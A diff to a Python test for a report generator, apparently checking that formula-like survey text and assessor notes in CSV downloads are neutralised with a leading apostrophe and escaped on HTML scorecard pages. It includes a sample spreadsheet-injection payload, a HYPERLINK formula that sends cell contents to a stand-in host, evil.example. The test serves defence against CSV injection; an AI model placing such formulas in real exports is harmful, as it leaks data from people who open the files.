@@ -95,11 +95,21 @@ def test_survey_text_in_a_report_download_is_text_and_on_its_page_is_escaped(tmp
     with duckdb.connect(str(warehouse), read_only=True) as con:
         written = [text for (text,) in con.execute("SELECT indicator_text FROM marts.indicator_scores ORDER BY position").fetchall()]
     stem = f"tiny-{CAMDEN}-{YEAR}"
-    indicators = csv_rows((out / "downloads" / f"{stem}.indicators.csv").read_text(encoding="utf-8"))
+    indicators = csv_rows((out / "downloads" / f"{stem}.indicators.csv").read_bytes().decode("utf-8"))
     texts = [row[indicators[0].index("indicator_text")] for row in indicators[1:]]
     assert texts == ["'" + text if starts_like_formula(text) else text for text in written]
     assert texts[:4] == ["'" + formula for formula in FORMULAS[:4]]  # the frameworks' loader strips a leading tab or CR
-    index = csv_rows((out / "downloads" / "index.tiny.csv").read_text(encoding="utf-8"))
+    disputed = csv_rows((out / "downloads" / f"{stem}.disputed.csv").read_bytes().decode("utf-8"))
+    with duckdb.connect(str(warehouse), read_only=True) as con:
+        notes = [
+            n for (n,) in con.execute("SELECT note FROM marts.assessment_notes WHERE assessor = 'sector' ORDER BY indicator_id").fetchall()
+        ]
+    assert [row[disputed[0].index("sector_note")] for row in disputed[1:]] == ["'" + n if starts_like_formula(n) else n for n in notes]
+    assert notes[0] == FORMULAS[0]
+    index = csv_rows((out / "downloads" / "index.tiny.csv").read_bytes().decode("utf-8"))
     assert {row[index[0].index("framework_name")] for row in index[1:]} == {"'=Tiny"}
     page = (out / "scorecards" / f"{stem}.html").read_text(encoding="utf-8")
-    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;click&#34;)" in page and '"&A1' not in page
+    assert (
+        page.count("=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;click&#34;)") == 1 + 1 + 2 + 1
+    )  # indicator, dispute, notes, definition
+    assert '"&A1' not in page
